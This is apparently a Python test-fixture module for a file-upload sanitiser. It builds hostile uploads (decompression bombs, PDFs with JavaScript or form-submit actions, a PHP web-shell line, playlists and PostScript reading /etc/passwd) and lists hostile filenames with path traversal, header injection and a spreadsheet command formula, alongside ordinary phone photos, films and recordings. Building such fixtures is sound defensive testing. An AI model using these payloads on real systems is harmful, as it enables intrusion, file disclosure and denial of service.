"""Files of every kind that people and attackers send, made here and never stored.

`hostile()` must be refused or come out clean; `phone()` must be taken. NEEDLE and the place stand
for what a parent's telephone writes into a file and nobody may read out of it again.
"""

from __future__ import annotations

import gzip
import io
import struct
import subprocess
import tempfile
import zipfile
import zlib
from collections.abc import Callable
from functools import cache
from itertools import starmap
from pathlib import Path

import pikepdf
import pillow_heif
from PIL import Image

from portal.core.files import media
from tests.core import test_files as old

Maker = Callable[[], bytes]
NEEDLE = b"NEEDLE-PHONE"
NEEDLES = (
    NEEDLE, b"SECRET-PHONE", b"+33.30", b"33.3000", b"Exif\0", b"ICC_PROFILE", b"iCCP",
    b"http://ns.adobe", b"<x:xmp", b"PK\x03\x04", b"<script", b"<?php", b"tEXt", b"zTXt", b"iTXt",
    b"eXIf", b"x264 - core", b"/JavaScript", b"/Launch", b"/EmbeddedFile", b"\xa9xyz", b"moov\xa9",
)  # fmt: skip
PHP = b"<?php system($_GET['c']); ?>"
HTML = b"<!doctype html><script>fetch('//evil')</script>"


def encoded(image: Image.Image, kind: str, **options: object) -> bytes:
    out = io.BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


def photo(size: tuple[int, int] = (640, 480)) -> Image.Image:
    return old.picture(size)


def exif(orientation: int = 1) -> bytes:
    block = Image.Exif()
    block[0x010F], block[0x0110] = "HUAWEI", NEEDLE.decode()
    block[0x0112], block[0x013B], block[0x9286] = orientation, "张三", "SECRET-PHONE"
    block.get_ifd(0x8825).update({1: "N", 2: (33.0, 17.0, 31.2), 3: "E", 4: (113.0, 31.0, 5.0)})
    return block.tobytes()


def office(inside: str = "word/document.xml") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr(inside, "<w/>")
    return out.getvalue()


def zip_bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a", b"\0" * 30_000_000)
    return out.getvalue()


def segment(marker: int, body: bytes) -> bytes:
    return b"\xff" + bytes([marker]) + struct.pack(">H", len(body) + 2) + body


def jpeg_with(*segments: bytes, behind: bytes = b"") -> bytes:
    plain = encoded(photo(), "JPEG")
    return plain[:2] + b"".join(segments) + plain[2:] + behind


def jpeg_claiming(width: int, height: int) -> bytes:
    """A sound small JPEG whose frame header says it is enormous."""
    data = bytearray(encoded(photo(), "JPEG"))
    at = data.index(b"\xff\xc0") + 5
    data[at : at + 4] = struct.pack(">HH", height, width)
    return bytes(data)


def png_with(*chunks: tuple[bytes, bytes]) -> bytes:
    plain = encoded(photo(), "PNG")
    return plain[:33] + b"".join(starmap(old.chunk, chunks)) + plain[33:]


def png_data_bomb() -> bytes:
    """Claims 100 by 100 and unpacks to 300 MB."""
    body = zlib.compress(b"\0" * 300_000_000, 1)
    return old.png_head(100, 100) + old.chunk(b"IDAT", body) + old.chunk(b"IEND", b"")


def moving_png(frames: int = 300) -> bytes:
    first, *others = [photo((40, 30)).rotate(n) for n in range(frames)]
    return encoded(first, "PNG", save_all=True, append_images=others)


def heic(size: tuple[int, int] = (640, 480), **options: object) -> bytes:
    pillow_heif.register_heif_opener()
    return encoded(photo(size), "HEIF", quality=50, **options)


def pdf_with(change: Callable[[pikepdf.Pdf], None], **save: object) -> bytes:
    return old.pdf_with(change, **save)


def pdf_action(kind: str, **entries: object) -> Maker:
    return lambda: pdf_with(lambda d: setattr(d.Root, "OpenAction", old.action(kind, **entries)))


def pdf_annotation(kind: str) -> Maker:
    return lambda: pdf_with(lambda d: old.annotation(d, Subtype=pikepdf.Name(f"/{kind}")))


def named_script(document: pikepdf.Pdf) -> None:
    script = old.action("JavaScript", JS=document.make_stream(b"app.alert(1)"))
    tree = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("x"), script]))
    document.Root.Names = pikepdf.Dictionary(JavaScript=tree)


def chained_script(document: pikepdf.Pdf) -> None:
    """Behind a harmless action."""
    follows = document.make_indirect(old.action("JavaScript", JS=pikepdf.String("1")))
    document.pages[0].obj.AA = pikepdf.Dictionary(O=old.action("GoTo", Next=follows))


def described(document: pikepdf.Pdf) -> None:
    document.docinfo["/Author"] = NEEDLE.decode()
    document.Root.Metadata = document.make_stream(b"<x:xmpmeta>" + NEEDLE)
    document.pages[0].obj["/PieceInfo"] = pikepdf.Dictionary(X=pikepdf.String(NEEDLE.decode()))


def page_loop() -> bytes:
    return b"""%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj
2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj
trailer<</Root 1 0 R>>
%%EOF"""


def stream_bomb() -> bytes:
    """A page whose content unpacks to 300 MB."""

    def change(document: pikepdf.Pdf) -> None:
        body = zlib.compress(zlib.compress(b" " * 300_000_000, 9), 9)
        made = document.make_stream(body)
        made.stream_dict["/Filter"] = pikepdf.Array([pikepdf.Name.FlateDecode] * 2)
        document.pages[0].obj["/Contents"] = made

    return pdf_with(change)


def scan(pages: int = 2) -> bytes:
    """What a scanning app makes: one picture a page."""
    first, *others = [photo((800, 1100)).rotate(n) for n in range(pages)]
    return encoded(first, "PDF", save_all=True, append_images=others, author=NEEDLE.decode())


# Sound and film

PICTURES = ("-f", "lavfi", "-i", "testsrc=size=320x240:rate=10:duration=1")
SOUND = ("-f", "lavfi", "-i", "sine=duration=1")
ABOUT = (
    "-metadata", f"title={NEEDLE.decode()}", "-metadata", "location=+33.3000+113.5100/",
    "-metadata", f"comment={NEEDLE.decode()}", "-metadata", f"artist={NEEDLE.decode()}",
)  # fmt: skip
H264, AAC = ("-c:v", "libx264", "-preset", "ultrafast"), ("-c:a", "aac")


@cache
def film(ending: str, *options: str) -> bytes:
    """A file as ffmpeg writes it, with all that a telephone adds."""
    with tempfile.TemporaryDirectory() as folder:
        file = Path(folder) / f"made.{ending}"
        command = [str(media.program()), "-nostdin", "-loglevel", "error", *options, *ABOUT]
        subprocess.run([*command, str(file)], check=True)
        return file.read_bytes()


def mp4(*more: str) -> bytes:
    return film("mp4", *PICTURES, *SOUND, *H264, *AAC, *more)


def box(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body) + 8) + kind + body


def turned() -> bytes:
    """Filmed upright: the matrix of the track says so."""
    data = bytearray(mp4())
    at = data.index(b"tkhd") + 4 + 40
    data[at : at + 36] = struct.pack(">9i", 0, 65536, 0, -65536, 0, 0, 0, 0, 1 << 30)
    return bytes(data)


def film_with_subtitles() -> bytes:
    with tempfile.TemporaryDirectory() as folder:
        words = Path(folder) / "a.srt"
        words.write_text(f"1\n00:00:00,000 --> 00:00:01,000\n{NEEDLE.decode()}\n")
        return film("mp4", *PICTURES, *SOUND, "-i", str(words), *H264, *AAC, "-c:s", "mov_text")


def sound_with_cover() -> bytes:
    with tempfile.TemporaryDirectory() as folder:
        cover = Path(folder) / "a.jpg"
        cover.write_bytes(encoded(photo(), "JPEG", exif=exif()))
        return film("mp3", *SOUND, "-i", str(cover), "-map", "0", "-map", "1", "-c:v", "copy",
                    "-disposition:v", "attached_pic")  # fmt: skip


PLAYLIST = b"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n"
CONCAT = b"ffconcat version 1.0\nfile '/etc/passwd'\n"
FTYP = box(b"ftyp", b"isom\0\0\2\0isomiso2mp41")

REFUSED: dict[str, tuple[Maker, str]] = {
    "docx called pdf": (office, "a.pdf"),
    "docx called jpg": (office, "a.jpg"),
    "xlsx": (lambda: office("xl/workbook.xml"), "a.xlsx"),
    "macro workbook called pdf": (lambda: office("xl/vbaProject.bin"), "a.pdf"),
    "zip bomb called jpg": (zip_bomb, "a.jpg"),
    "gzip called png": (lambda: gzip.compress(b"\0" * 9_000_000), "a.png"),
    "compressed svg": (lambda: gzip.compress(old.SVG), "a.svgz"),
    "xml that grows": (
        lambda: b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>',
        "a.jpg",
    ),
    "html with a byte order mark": (lambda: b"\xef\xbb\xbf" + HTML, "a.jpg"),
    "php called jpg": (lambda: PHP, "a.php.jpg"),
    "shell script": (lambda: b"#!/bin/sh\nid\n", "a.jpg"),
    "batch file": (lambda: b"@echo off\r\nformat c:", "a.bat"),
    "windows link": (lambda: b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60, "a.lnk"),
    "java class": (lambda: b"\xca\xfe\xba\xbe\0\0\0\x34" + old.JUNK, "a.png"),
    "rar": (lambda: b"Rar!\x1a\x07\x01\0" + old.JUNK, "a.jpg"),
    "7z": (lambda: b"7z\xbc\xaf\x27\x1c" + old.JUNK, "a.pdf"),
    "bitmap": (lambda: encoded(photo(), "BMP"), "a.jpg"),
    "icon": (lambda: encoded(photo((64, 64)), "ICO"), "a.png"),
    "photoshop": (lambda: b"8BPS\0\1" + b"\0" * 6 + old.JUNK, "a.psd"),
    "postscript": (lambda: b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n", "a.pdf"),
    "postscript picture": (lambda: encoded(photo(), "EPS"), "a.jpg"),
    "jpeg 2000": (lambda: encoded(photo((64, 64)), "JPEG2000"), "a.jpg"),
    "tiff of many pages": (
        lambda: encoded(photo(), "TIFF", save_all=True, append_images=[photo()] * 9),
        "a.jpg",
    ),
    "avif": (lambda: encoded(photo((64, 64)), "AVIF"), "a.jpg"),
    "jpeg of 65,000 by 65,000": (lambda: jpeg_claiming(65_000, 65_000), "a.jpg"),
    "jpeg of 13,000 by 10": (lambda: jpeg_claiming(13_000, 10), "a.jpg"),
    "png with profile bomb": (
        lambda: png_with((b"iCCP", b"x\0\0" + zlib.compress(b"\0" * 200_000_000, 1))),
        "a.png",
    ),
    "heic cut in the middle": (lambda: heic()[:900], "a.heic"),
    "pdf with a named script": (lambda: pdf_with(named_script), "a.pdf"),
    "pdf with a script behind an action": (lambda: pdf_with(chained_script), "a.pdf"),
    "pdf that sends a form": (pdf_action("SubmitForm", F=pikepdf.String("http://evil")), "a.pdf"),
    "pdf that imports data": (pdf_action("ImportData", F=pikepdf.String("a")), "a.pdf"),
    "pdf with sound": (pdf_annotation("Sound"), "a.pdf"),
    "pdf with a scene": (pdf_annotation("3D"), "a.pdf"),
    "pdf with a pinned file": (pdf_annotation("FileAttachment"), "a.pdf"),
    "pdf with pages that loop": (page_loop, "a.pdf"),
    "pdf with two passwords": (
        lambda: pdf_with(lambda d: None, encryption=pikepdf.Encryption(owner="o", user="u", R=4)),
        "a.pdf",
    ),
    "pdf of noise": (lambda: b"%PDF-1.7\n" + old.JUNK, "a.pdf"),
    "playlist called mp4": (lambda: PLAYLIST, "a.mp4"),
    "playlist behind a film's mark": (lambda: FTYP + PLAYLIST, "a.mp4"),
    "list of files called mov": (lambda: CONCAT, "a.mov"),
    "film without its index": (lambda: FTYP + box(b"mdat", old.JUNK), "a.mp4"),
    "film with an index of noise": (lambda: FTYP + box(b"moov", old.JUNK), "a.mp4"),
    "film with a box beyond its end": (lambda: FTYP + b"\x7f\xff\xff\xffmoov", "a.mp4"),
    "film cut in the middle": (lambda: mp4()[:4000], "a.mp4"),
    "html behind a film's mark": (lambda: FTYP + HTML, "a.mp4"),
    "film of jpegs": (lambda: film("mov", *PICTURES, "-c:v", "mjpeg"), "a.mov"),
    "avi": (lambda: film("avi", *PICTURES, "-c:v", "mpeg4"), "a.avi"),
    "avi called wav": (lambda: film("avi", *PICTURES, "-c:v", "mpeg4"), "a.wav"),
    "matroska": (lambda: film("mkv", *PICTURES, *H264), "a.mkv"),
    "flash film": (lambda: film("flv", *PICTURES, "-c:v", "flv1"), "a.mp4"),
    "webm of noise": (lambda: b"\x1aE\xdf\xa3\x9f\x42\x82\x84webm" + old.JUNK, "a.webm"),
    "mp3 of noise": (lambda: b"ID3\4\0\0\0\0\0\0" + old.JUNK, "a.mp3"),
    "mp3 that is html": (lambda: b"ID3\4\0\0\0\0\0\0" + HTML * 20, "a.mp3"),
    "wav without sound": (lambda: b"RIFF\x24\0\0\0WAVEfmt \x10\0\0\0", "a.wav"),
    "wav of another codec": (lambda: film("wav", *SOUND, "-c:a", "adpcm_ms"), "a.wav"),
    "ogg of noise": (lambda: b"OggS\0\2" + old.JUNK, "a.ogg"),
    "ogg with flac": (lambda: film("ogg", *SOUND, "-c:a", "flac"), "a.ogg"),
    "midi": (lambda: b"MThd\0\0\0\6\0\1\0\1\0`MTrk" + old.JUNK, "a.mp3"),
}

CLEANED: dict[str, tuple[Maker, str]] = {
    "jpeg with place, phone and name": (lambda: encoded(photo(), "JPEG", exif=exif()), "a.jpg"),
    "jpeg with xmp": (
        lambda: jpeg_with(segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>" + NEEDLE)),
        "a.jpg",
    ),
    "jpeg with php in a comment": (lambda: jpeg_with(segment(0xFE, PHP)), "a.php.jpg"),
    "jpeg with html in a segment": (lambda: jpeg_with(segment(0xEB, HTML)), "a.jpg"),
    "jpeg with a photoshop block": (
        lambda: jpeg_with(segment(0xED, b"Photoshop 3.0\0" + NEEDLE)),
        "a.jpg",
    ),
    "jpeg with a small picture inside": (
        lambda: jpeg_with(segment(0xE2, b"MPF\0" + NEEDLE), behind=encoded(photo(), "JPEG")),
        "a.jpg",
    ),
    "jpeg with a film behind": (
        lambda: jpeg_with(behind=FTYP + box(b"moov", NEEDLE)),
        "MVIMG_1.jpg",
    ),
    "jpeg with a profile": (lambda: encoded(photo(), "JPEG", icc_profile=NEEDLE * 9), "a.jpg"),
    "jpeg that is a zip": (lambda: jpeg_with(behind=office()), "a.jpg"),
    "png with exif and a profile": (
        lambda: png_with((b"eXIf", exif()), (b"iCCP", b"x\0\0" + zlib.compress(NEEDLE * 50))),
        "a.png",
    ),
    "png with words": (
        lambda: png_with((b"tEXt", b"Author\0" + NEEDLE), (b"iTXt", b"x\0\0\0\0\0" + NEEDLE)),
        "a.png",
    ),
    "png with html in a private chunk": (lambda: png_with((b"htMl", HTML)), "a.png"),
    "png that unpacks to 300 MB": (png_data_bomb, "a.png"),
    "png of 300 frames": (moving_png, "a.png"),
    "heic with place": (lambda: heic(exif=exif()), "a.heic"),
    "pdf with descriptions": (lambda: pdf_with(described), "a.pdf"),
    "pdf with a page that unpacks to 300 MB": (stream_bomb, "a.pdf"),
    "pdf that opens a page of the web": (
        pdf_action("URI", URI=pikepdf.String("http://evil/NEEDLE-PHONE")),
        "a.pdf",
    ),
    "pdf with php behind": (lambda: old.pdf() + PHP, "a.pdf"),
    "film with place and title": (mp4, "a.mp4"),
    "film with tags of its own": (lambda: mp4("-movflags", "use_metadata_tags"), "a.mp4"),
    "film with a private box": (lambda: mp4() + box(b"uuid", NEEDLE * 4), "a.mp4"),
    "film with a zip behind": (lambda: mp4() + office(), "a.mp4"),
    "film with subtitles": (film_with_subtitles, "a.mp4"),
    "sound with a cover": (sound_with_cover, "a.mp3"),
    "sound with html behind": (lambda: film("wav", *SOUND) + HTML, "a.wav"),
    "webm with tags": (
        lambda: film("webm", *PICTURES, *SOUND, "-c:v", "libvpx", "-c:a", "libopus"),
        "a.webm",
    ),
}

PHONE: dict[str, tuple[Maker, str, str]] = {
    **{
        f"photo held way {way}": (
            lambda way=way: encoded(photo(), "JPEG", exif=exif(way)),
            f"IMG_000{way}.JPG",
            "image/jpeg",
        )
        for way in (1, 3, 6, 8)
    },
    "progressive photo": (
        lambda: encoded(photo(), "JPEG", progressive=True),
        "mmexport1.jpg",
        "image/jpeg",
    ),
    "photo of best quality": (
        lambda: encoded(photo(), "JPEG", quality=100, subsampling=0),
        "微信图片.jpg",
        "image/jpeg",
    ),
    "photo of 12 megapixels": (
        lambda: encoded(photo((4032, 3024)), "JPEG", exif=exif(6)),
        "IMG_1.jpg",
        "image/jpeg",
    ),
    "panorama": (
        lambda: encoded(photo((10_000, 1_600)), "JPEG"),
        "PANO.jpg",
        "image/jpeg",
    ),
    "grey copy": (lambda: encoded(photo().convert("L"), "JPEG"), "复印件.jpg", "image/jpeg"),
    "screenshot": (lambda: encoded(photo((1170, 2532)), "PNG"), "Screenshot.png", "image/png"),
    "screenshot with transparency": (
        lambda: encoded(photo((600, 900)).convert("RGBA"), "PNG"),
        "截屏.png",
        "image/png",
    ),
    "screenshot of few colours": (
        lambda: encoded(photo((600, 900)).quantize(64), "PNG"),
        "a.png",
        "image/png",
    ),
    "scan in black and white": (
        lambda: encoded(photo((900, 1200)).convert("1"), "PNG"),
        "扫描.png",
        "image/png",
    ),
    "iphone photo": (heic, "IMG_0001.HEIC", "image/jpeg"),
    "iphone photo upright": (
        lambda: heic((480, 640), exif=exif(6)),
        "IMG_0002.HEIC",
        "image/jpeg",
    ),
    "iphone photo of 3 megapixels": (
        lambda: heic((2016, 1512)),
        "IMG_0003.HEIC",
        "image/jpeg",
    ),
    "scanned papers": (scan, "扫描件.pdf", "application/pdf"),
    "scanned papers, many": (lambda: scan(12), "材料.pdf", "application/pdf"),
    "printed page": (old.pdf, "打印.pdf", "application/pdf"),
    "page locked against printing": (
        lambda: pdf_with(lambda d: None, encryption=pikepdf.Encryption(owner="o")),
        "a.pdf",
        "application/pdf",
    ),
    "page with a link": (
        lambda: pdf_with(
            lambda d: old.annotation(
                d,
                Subtype=pikepdf.Name.Link,
                A=old.action("URI", URI=pikepdf.String("http://x")),
            )
        ),
        "通知.pdf",
        "application/pdf",
    ),
    "android film": (mp4, "VID_1.mp4", "video/mp4"),
    "film held upright": (turned, "VID_2.mp4", "video/mp4"),
    "film without sound": (lambda: film("mp4", *PICTURES, *H264), "VID_3.mp4", "video/mp4"),
    "iphone film": (
        lambda: film("mov", *PICTURES, *SOUND, "-c:v", "libx265", "-tag:v", "hvc1", *AAC),
        "IMG_0004.MOV",
        "video/mp4",
    ),
    "iphone film, compatible": (
        lambda: film("mov", *PICTURES, *SOUND, *H264, *AAC),
        "IMG_5.MOV",
        "video/mp4",
    ),
    "film of an old phone": (
        lambda: film("3gp", *PICTURES, *SOUND, "-c:v", "h263", "-s", "352x288", *AAC),
        "a.3gp",
        "video/3gpp",
    ),
    "film of a browser": (
        lambda: film("webm", *PICTURES, *SOUND, "-c:v", "libvpx-vp9", "-c:a", "libopus"),
        "a.webm",
        "video/webm",
    ),
    "recording": (lambda: film("m4a", *SOUND, *AAC), "录音.m4a", "audio/mp4"),
    "recording without loss": (
        lambda: film("m4a", *SOUND, "-c:a", "alac"),
        "录音2.m4a",
        "audio/mp4",
    ),
    "recording as mp3": (
        lambda: film("mp3", *SOUND, "-c:a", "libmp3lame"),
        "录音.mp3",
        "audio/mpeg",
    ),
    "recording as mp3 without tags": (
        lambda: film("mp3", *SOUND, "-id3v2_version", "0", "-write_xing", "0"),
        "b.mp3",
        "audio/mpeg",
    ),
    "recording as wav": (lambda: film("wav", *SOUND), "a.wav", "audio/wav"),
    "call as wav": (
        lambda: film("wav", *SOUND, "-ac", "1", "-ar", "8000"),
        "call.wav",
        "audio/wav",
    ),
    "voice message": (lambda: film("ogg", *SOUND, "-c:a", "libopus"), "v.ogg", "audio/ogg"),
    "older voice message": (lambda: film("ogg", *SOUND, "-c:a", "libvorbis"), "o.ogg", "audio/ogg"),
}

HOSTILE_NAMES = (
    "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/cron.d/x.jpg", "C:\\a.jpg",
    "a.jpg\0.exe", "a\r\nSet-Cookie: x=1.jpg", "\u202egpj.exe", "\u2066a\u2069.jpg",
    ".htaccess", "CON", "nul.jpg", "a" * 300 + ".jpg", "照" * 300, "", ".", "..",
    "<script>alert(1)</script>.jpg", '";filename="evil.exe', "a.jpg;.exe", "a%00.jpg", "a.jpg ",
    "=cmd|' /C calc'!A0.jpg", "\ud800.jpg", "a\u200b.jpg", "\x1b[31m.jpg", "file:///a.jpg",
)  # fmt: skip
